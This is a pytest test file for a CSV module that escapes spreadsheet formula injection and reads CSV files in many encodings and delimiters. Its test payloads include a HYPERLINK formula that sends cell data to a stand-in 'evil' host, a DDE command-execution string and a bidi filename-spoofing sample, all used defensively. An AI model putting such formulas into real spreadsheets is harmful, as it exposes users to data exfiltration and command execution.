"""ranking.csvio: spreadsheet-safe writing (C1-C7, G11) and robust reading (I1-I4, I9)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import os
import stat
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crawler import text as crawler_text
from ranking import csvio
from ranking.csvio import (
    FORMULA_TRIGGERS,
    MAX_CELL_CHARS,
    clean_text,
    format_cell,
    neutralize,
    normalize_header,
    read_csv_rows,
    sniff_delimiter,
    unescape,
    write_csv,
)
from ranking.errors import CsvFormatError

FIXTURES = Path(__file__).parent / "fixtures" / "feedback"

PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+2",
    "+",
    "-",
    "@",
]

ROUND_TRIP = [
    "first line\nsecond line",
    'she said "hi", then left',
    "a, b, c",
    "a; b; c",
    "tab\tinside",
    "Python 异步编程完全指南：从入门到精通",
    "emoji 🐍🚀 and ZWJ 👩‍💻",
    "Café déjà vu – “curly” ‘quotes’",
    "'already quoted",
    "''two quotes",
    "trailing space ",
    " leading space",
    "",
    "1.23E+15",
    "007",
    "\\backslash\\",
    "line\n\n\nblank lines inside",
]


def read_raw(path: Path) -> list[list[str]]:
    """Cells exactly as a spreadsheet would see them (no unescaping)."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# --------------------------------------------------------------------------- neutralize


@pytest.mark.parametrize("trigger", sorted(FORMULA_TRIGGERS))
def test_every_trigger_char_is_neutralized(trigger):
    assert neutralize(trigger + "1+1").startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_prefixed(payload):
    out = neutralize(payload)
    assert out.startswith("'")
    assert out[1] == clean_text(payload)[0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_neutralized_in_written_file(tmp_path, payload):
    path = tmp_path / "out.csv"
    write_csv(path, ["id", "title"], [["c-1", payload], [payload, "x"]])
    cells = [cell for row in read_raw(path) for cell in row]
    assert all(not cell or cell[0] not in FORMULA_TRIGGERS for cell in cells)
    _, rows, _ = read_csv_rows(path)
    assert unescape(rows[0]["title"]) == clean_text(payload)
    assert unescape(rows[1]["id"]) == clean_text(payload)


def test_header_cells_are_neutralized_too(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, ["id", "=evil()"], [])
    assert read_raw(path)[0] == ["id", "'=evil()"]


@pytest.mark.parametrize("text", ["plain", "Python 3.13", "c-0a1b2c3d4e", "a=b", "x-y", "mail@x"])
def test_harmless_text_is_unchanged(text):
    assert neutralize(text) == text


@pytest.mark.parametrize("payload", [" =1+1", "  @SUM(A1)", "\x00=1+1", "\u00a0-2+3"])
def test_a_trigger_after_leading_spaces_is_neutralized(payload):
    # A spreadsheet that trims cells on import would run " =1+1"; a control character
    # before the trigger is cleaned to a space, so it is the same case.
    assert neutralize(payload).startswith("'")
    assert neutralize(" plain") == " plain"


def test_leading_apostrophe_is_escaped_so_the_round_trip_is_lossless():
    assert neutralize("'quoted") == "''quoted"
    assert unescape(neutralize("'quoted")) == "'quoted"


@pytest.mark.parametrize("char", [chr(c) for c in range(0x202A, 0x202F)] + ["\u2066", "\u2069"])
def test_bidi_controls_are_removed(char):
    assert neutralize(f"abc{char}def") == "abcdef"


@pytest.mark.parametrize(
    "char", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x85", "\x9b"]
)
def test_controls_become_a_space_but_tab_and_newline_are_kept(char):
    assert neutralize(f"a{char}b\tc\nd") == "a b\tc\nd"


def test_carriage_returns_become_newlines():
    assert neutralize("a\r\nb\rc") == "a\nb\nc"


def test_lone_surrogates_are_removed():
    assert neutralize("a\ud800b\udfffc") == "abc"


@pytest.mark.parametrize(
    "text",
    ["a\ud800b", "a\x9bb", "a\x00b", "a\u200bb", "a\ufeffb", "evil\u202egnp.exe", "iso\u2066late"],
)
def test_cells_are_cleaned_by_the_crawlers_rule_for_titles(text):
    # One rule for what a title may hold, whether the crawler stores it or a CSV shows it.
    assert clean_text(text) == crawler_text.clean_text(text)


def test_long_cells_are_truncated_with_an_ellipsis():
    out = neutralize("x" * 100_000)
    assert len(out) == MAX_CELL_CHARS < 32_767
    assert out.endswith("…")
    assert neutralize("x" * MAX_CELL_CHARS) == "x" * MAX_CELL_CHARS


def test_truncated_formula_is_still_escaped():
    out = neutralize("=" + "1+" * 5000)
    assert out.startswith("'=") and out.endswith("…")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (3, "3"),
        (-7, "-7"),
        (0.5, "0.5000"),
        (1 / 3, "0.3333"),
        (-2.5, "-2.5000"),
        (-0.0, "0.0000"),
        (-0.00001, "0.0000"),
        (1e20, "100000000000000000000.0000"),
        (math.nan, ""),
        (math.inf, ""),
        (-math.inf, ""),
        (True, "true"),
        (False, "false"),
        (dt.date(2025, 2, 10), "2025-02-10"),
        (dt.datetime(2025, 2, 10, 8, 30), "2025-02-10T08:30:00"),
        ("-2+3", "'-2+3"),
    ],
)
def test_format_cell(value, expected):
    assert format_cell(value) == expected


def test_numpy_numbers_are_formatted_like_python_numbers():
    np = pytest.importorskip("numpy")
    assert format_cell(np.float64(0.25)) == "0.2500"
    assert format_cell(np.int64(12)) == "12"
    assert format_cell(np.float64("nan")) == ""


# --------------------------------------------------------------------------- write_csv


def test_written_file_has_a_bom_and_lf_line_endings(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, ["id", "note"], [["c-1", "a\r\nb"], ["c-2", "plain"]])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r" not in data
    assert data.count(b"\n") == 4  # header, row, the newline inside the note, row
    assert data.endswith(b"\n")


@pytest.mark.parametrize("text", ROUND_TRIP)
def test_lossless_round_trip(tmp_path, text):
    path = tmp_path / "out.csv"
    write_csv(path, ["id", "title", "note"], [{"id": "c-1", "title": text, "note": text}])
    header, rows, meta = read_csv_rows(path)
    assert header == ["id", "title", "note"]
    assert meta.encoding == "utf-8-sig" and meta.had_bom
    assert unescape(rows[0]["title"]) == text
    assert unescape(rows[0]["note"]) == text


def test_output_is_byte_identical_for_identical_input(tmp_path):
    rows = [
        {"id": f"c-{i:04d}", "score": i / 7, "title": f"=T{i} 异步 🐍", "rank": i}
        for i in range(200)
    ]
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    write_csv(first, ["id", "rank", "score", "title"], rows)
    write_csv(second, ["id", "rank", "score", "title"], iter(rows))
    assert first.read_bytes() == second.read_bytes()


def test_mapping_rows_fill_missing_keys_and_reject_unknown_ones(tmp_path):
    path = tmp_path / "out.csv"
    assert write_csv(path, ["id", "note"], [{"id": "c-1"}]) == 1
    assert read_raw(path)[1] == ["c-1", ""]
    with pytest.raises(ValueError, match="not columns"):
        write_csv(path, ["id"], [{"id": "c-1", "typo": 1}])


@pytest.mark.parametrize("row", [["c-1"], ["c-1", "x", "y"], "ab", 42])
def test_malformed_sequence_rows_raise(tmp_path, row):
    with pytest.raises((ValueError, TypeError)):
        write_csv(tmp_path / "out.csv", ["id", "note"], [row])


def _rows_then_crash(n):
    for i in range(n):
        yield {"id": f"c-{i}", "title": "new"}
    raise RuntimeError("simulated crash half-way")


def test_crash_mid_write_leaves_the_old_file_intact(tmp_path):
    path = tmp_path / "2025-W07.csv"
    write_csv(path, ["id", "title"], [{"id": "c-old", "title": "old"}])
    before = path.read_bytes()
    with pytest.raises(RuntimeError, match="half-way"):
        write_csv(path, ["id", "title"], _rows_then_crash(1000))
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2025-W07.csv"]  # no temp left


def test_crash_mid_write_creates_no_file_when_there_was_none(tmp_path):
    path = tmp_path / "2025-W07.csv"
    with pytest.raises(RuntimeError):
        write_csv(path, ["id", "title"], _rows_then_crash(5))
    assert list(tmp_path.iterdir()) == []


def test_replace_goes_through_a_temp_file_in_the_same_directory(tmp_path, monkeypatch):
    seen = []
    real_replace = os.replace

    def spy(src, dst):
        seen.append((Path(src), Path(dst)))
        real_replace(src, dst)

    monkeypatch.setattr(csvio.os, "replace", spy)
    path = tmp_path / "out.csv"
    write_csv(path, ["id"], [["c-1"]])
    [(src, dst)] = seen
    assert dst == path and src.parent == path.parent and src != path


def test_new_file_mode_is_0644_and_an_existing_mode_is_kept(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, ["id"], [])
    assert stat.S_IMODE(path.stat().st_mode) == 0o644
    path.chmod(0o664)
    write_csv(path, ["id"], [])
    assert stat.S_IMODE(path.stat().st_mode) == 0o664


_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs", "Cc"),
        blacklist_characters="\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    )
    | st.sampled_from(["\t", "\n", '"', ",", ";", "'", "=", "+", "-", "@"]),
    max_size=300,
)


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(_TEXT, min_size=1, max_size=4))
def test_round_trip_property(cells):
    columns = ["id"] + [f"c{i}" for i in range(len(cells))]
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "out.csv"
        write_csv(path, columns, [["c-1", *cells]])
        data = path.read_bytes()
        _, rows, _ = read_csv_rows(path)
    assert b"\r" not in data
    for line_cells in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        assert all(not cell or cell[0] not in FORMULA_TRIGGERS for cell in line_cells)
    assert [unescape(rows[0][c]) for c in columns[1:]] == cells


def _split_like_libreoffice(line: str) -> list[str]:
    """One line split the way LibreOffice Calc's CSV import does by default: on `,`, `;`
    and TAB alike, a field in quotes taken whole (quotes doubled inside)."""
    cells, cell, quoted, i = [], "", False, 0
    while i < len(line):
        char = line[i]
        if quoted:
            if char == '"' and line[i + 1 : i + 2] == '"':
                cell, i = cell + '"', i + 1
            elif char == '"':
                quoted = False
            else:
                cell += char
        elif char == '"' and not cell:
            quoted = True
        elif char in ",;\t":
            cells, cell = [*cells, cell], ""
        else:
            cell += char
        i += 1
    return [*cells, cell]


def test_cells_a_spreadsheet_splits_on_are_quoted(tmp_path):
    """LibreOffice's import splits on `,`, `;` and TAB at once by default: a reason
    `3 sources; first seen today` or sources `hn;lobsters` written bare shifted every
    later column of its row, the decision column included (found in a real Calc)."""
    columns = ["id", "reason", "sources", "title", "decision"]
    row = ["c-1", "3 sources; first seen today", "hn:a;lobsters:b", "tab\there, comma", ""]
    path = tmp_path / "out.csv"
    write_csv(path, columns, [row])
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert [_split_like_libreoffice(line) for line in lines] == [columns, row]
    assert [rows[0][c] for c in columns for rows in [read_csv_rows(path)[1]]] == row


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(_TEXT, min_size=1, max_size=4))
def test_written_lines_are_the_csv_modules_but_for_semicolons_and_tabs(cells):
    """Apart from quoting `;` and TAB too, the bytes are what `csv.writer` writes."""
    formatted = [format_cell(c) for c in cells]
    expected = io.StringIO()
    csv.writer(expected, quoting=csv.QUOTE_MINIMAL, lineterminator="\n").writerow(formatted)
    if not any(";" in c or "\t" in c for c in formatted):
        assert csvio._record(formatted) == expected.getvalue()
    assert next(csv.reader(io.StringIO(csvio._record(formatted), newline=""))) == formatted


# --------------------------------------------------------------------------- reading


@pytest.mark.parametrize(
    ("raw", "normalized"),
    [
        ("id", "id"),
        (" ID ", "id"),
        ("Decision ", "decision"),
        ("'Section", "section"),
        ("First-Seen", "first_seen"),
        ("first seen", "first_seen"),
        ("First  -  Seen", "first_seen"),
        ("\ufeffid", "id"),
        ("ＩＤ", "id"),
        ("", ""),
    ],
)
def test_normalize_header(raw, normalized):
    assert normalize_header(raw) == normalized


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [
        ("id,title,decision\n", ","),
        ("id;title;decision\r\n", ";"),
        ("id\ttitle\tdecision\n", "\t"),
        ('"a;b;c",x,y\n', ","),  # delimiters inside quotes do not count
        ('"a,b,c";x;y\n', ";"),
        ("id\n1,2,3,4\n", ","),  # only the header line counts; none → comma
        ("a,b;c\n", ","),  # tie → comma
        ("\r\n \r\nweek;id;decision\r\n", ";"),  # blank lines above the header skipped
        ("\n\t\nid\ttitle\n", "\t"),
    ],
)
def test_sniff_delimiter(text, delimiter):
    assert sniff_delimiter(text) == delimiter


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter", "line_ending", "bom"),
    [
        ("bom.csv", "utf-8-sig", ",", "\n", True),
        ("no_bom.csv", "utf-8", ",", "\n", False),
        ("crlf.csv", "utf-8-sig", ",", "\r\n", True),
        ("semicolon.csv", "utf-8-sig", ";", "\r\n", True),
        ("cp1252.csv", "cp1252", ",", "\r\n", False),
        ("macroman.csv", "mac-roman", ",", "\r", False),
        ("gbk.csv", "gb18030", ",", "\r\n", False),
        ("utf16_tab.csv", "utf-16", "\t", "\r\n", True),
    ],
)
def test_encodings_and_delimiters_are_detected(name, encoding, delimiter, line_ending, bom):
    header, rows, meta = read_csv_rows(FIXTURES / name)
    assert (meta.encoding, meta.delimiter, meta.line_ending, meta.had_bom) == (
        encoding,
        delimiter,
        line_ending,
        bom,
    )
    assert meta.legacy_encoding == (encoding in ("cp1252", "mac-roman", "gb18030"))
    assert header[0] == "id"
    assert rows[0]["id"] == "c-0a1b2c3d4e"
    assert [row.row_number for row in rows] == [2, 3, 4, 5, 6]
    if name in ("gbk.csv", "utf16_tab.csv"):
        assert rows[0]["title"] == "Python 异步编程完全指南"
    else:
        assert unescape(rows[0]["title"]) == "Café déjà vu: asyncio – “guide”"


def test_quoted_multiline_cells_keep_spreadsheet_row_numbers():
    _, rows, _ = read_csv_rows(FIXTURES / "multiline_note.csv")
    assert rows[0]["note"] == 'first line\nsecond line, with a comma\n"quoted" third'
    assert [row.row_number for row in rows] == [2, 3, 4, 5, 6]
    assert [row.line for row in rows] == [2, 5, 6, 8, 9]


def test_blank_rows_are_skipped_and_counted(tmp_path):
    path = tmp_path / "f.csv"
    path.write_text("\nid,decision\nc-1,keep\n,\n\nc-2\n", encoding="utf-8")
    header, rows, meta = read_csv_rows(path)
    assert header == ["id", "decision"]
    assert [(r.row_number, r["id"], r["decision"]) for r in rows] == [
        (3, "c-1", "keep"),
        (6, "c-2", ""),  # a short row is padded
    ]
    assert meta.blank_rows == (4, 5)


def test_blank_lines_above_a_semicolon_header_are_skipped(tmp_path):
    path = tmp_path / "f.csv"
    path.write_bytes(b"\r\n\r\nweek;id;decision\r\n2025-W07;c-1;keep\r\n")
    header, rows, meta = read_csv_rows(path)
    assert (header, meta.delimiter) == (["week", "id", "decision"], ";")
    assert [(r.row_number, r["id"], r["decision"]) for r in rows] == [(4, "c-1", "keep")]


def test_duplicate_and_empty_header_names(tmp_path):
    path = tmp_path / "f.csv"
    path.write_text("id,Note,,note\nc-1,first,x,second\n", encoding="utf-8")
    header, rows, meta = read_csv_rows(path)
    assert header == ["id", "note", "", "note"]
    assert dict(rows[0]) == {"id": "c-1", "note": "first"}
    assert meta.duplicate_columns == ("note",)


def test_header_only_file_gives_no_rows():
    header, rows, _ = read_csv_rows(FIXTURES / "header_only.csv")
    assert header[0] == "id" and rows == []


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("empty.csv", "empty"),
        ("bom_only.csv", "empty"),
        ("xlsx_renamed.csv", "looks like an Excel workbook"),
        ("unterminated_quote.csv", "line 2 is not valid CSV"),
    ],
)
def test_unreadable_files_fail_with_one_line_naming_the_file(name, message):
    with pytest.raises(CsvFormatError, match=message) as info:
        read_csv_rows(FIXTURES / name)
    assert name in str(info.value) and "\n" not in str(info.value)


def test_an_opendocument_spreadsheet_is_named_as_such_with_libreoffices_menu(tmp_path):
    """An .ods (LibreOffice's own format) was called an Excel workbook and told to use an
    Excel menu item; an .xlsx names LibreOffice's save too."""
    path = tmp_path / "w.ods"
    path.write_bytes(
        b"PK\x03\x04" + b"\x00" * 26 + b"mimetypeapplication/vnd.oasis."
        b"opendocument.spreadsheet" + b"\x00" * 50
    )
    with pytest.raises(CsvFormatError, match=r"OpenDocument spreadsheet \(\.ods\)") as info:
        read_csv_rows(path)
    assert "Excel" not in str(info.value) and "'Text CSV (.csv)'" in str(info.value)
    with pytest.raises(CsvFormatError, match=r"'Text CSV \(\.csv\)'.*LibreOffice"):
        read_csv_rows(FIXTURES / "xlsx_renamed.csv")


def test_old_excel_workbook_is_refused(tmp_path):
    path = tmp_path / "old.csv"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100)
    with pytest.raises(CsvFormatError, match=r"old Excel workbook \(\.xls\)"):
        read_csv_rows(path)


def test_size_cap(tmp_path):
    path = tmp_path / "big.csv"
    path.write_text("id,decision\n" + "c-1,keep\n" * 100, encoding="utf-8")
    with pytest.raises(CsvFormatError, match="over the 100 bytes limit"):
        read_csv_rows(path, max_bytes=100)


def test_default_size_cap_is_checked_before_reading(tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:  # sparse: nothing is really written
        handle.truncate(csvio.MAX_READ_BYTES + 1)
    with pytest.raises(CsvFormatError, match=r"huge\.csv: 50\.0 MB is over the 50\.0 MB limit"):
        read_csv_rows(path)


def test_nul_bytes_fail_with_the_offset(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(b"id,decision\nc-1,ke\x00ep\n")
    with pytest.raises(CsvFormatError, match="NUL byte at byte offset 18"):
        read_csv_rows(path)


def test_utf16_without_bom_is_detected_or_refused():
    # chardet recognizes this one; were it not, the NUL check would refuse it.
    _, rows, meta = read_csv_rows(FIXTURES / "utf16_no_bom.csv")
    assert meta.encoding == "utf-16-le" and not meta.legacy_encoding
    assert rows[0]["id"] == "c-0a1b2c3d4e"


def test_undecodable_bytes_fail_with_the_byte_offset(tmp_path, monkeypatch):
    import chardet

    monkeypatch.setattr(chardet, "detect", lambda data: {"encoding": None, "confidence": 0})
    path = tmp_path / "bad.csv"
    path.write_bytes(b"id,decision\nc-1,\x81\x8d\n")  # undefined in cp1252 too
    with pytest.raises(CsvFormatError, match=r"bad\.csv: cannot decode.*offset 16") as info:
        read_csv_rows(path)
    assert "cp1252" in str(info.value)


def test_bom_that_lies_fails_with_the_byte_offset(tmp_path):
    path = tmp_path / "lying.csv"
    path.write_bytes(b"\xef\xbb\xbfid,decision\nc-1,caf\xe9\n")
    with pytest.raises(CsvFormatError, match="byte offset 22 is not UTF-8"):
        read_csv_rows(path)


@pytest.mark.parametrize("kind", ["missing", "directory"])
def test_missing_file_or_directory(tmp_path, kind):
    path = tmp_path / "x.csv"
    if kind == "directory":
        path.mkdir()
    with pytest.raises(CsvFormatError, match=r"x\.csv: (no such file|is a directory)"):
        read_csv_rows(path)


def test_crlf_inside_cells_is_normalized_to_lf(tmp_path):
    path = tmp_path / "f.csv"
    path.write_bytes(b'id,note\r\nc-1,"a\r\nb"\r\n')
    _, rows, meta = read_csv_rows(path)
    assert rows[0]["note"] == "a\nb"
    assert meta.line_ending == "\r\n"


def test_a_file_of_empty_cells_has_no_header(tmp_path):
    path = tmp_path / "cleared.csv"
    path.write_text(",,,\r\n,,,\r\n", encoding="utf-8")  # a spreadsheet's cleared rows
    with pytest.raises(CsvFormatError, match=r"cleared\.csv: the file has only empty cells"):
        read_csv_rows(path)


def test_a_cell_over_128_kib_is_read_and_the_limit_restored(tmp_path):
    """Python's csv module refused it ("field larger than field limit"), which `rank
    feedback` reported as a row with bad quotes."""
    path = tmp_path / "big.csv"
    path.write_text("week,id,decision,note\n2025-W07,c-1,keep," + "x" * 200_000 + "\n", "utf-8")
    limit = csv.field_size_limit()
    header, rows, _meta = read_csv_rows(path)
    assert header == ["week", "id", "decision", "note"]
    assert len(rows[0]["note"]) == 200_000
    assert csv.field_size_limit() == limit
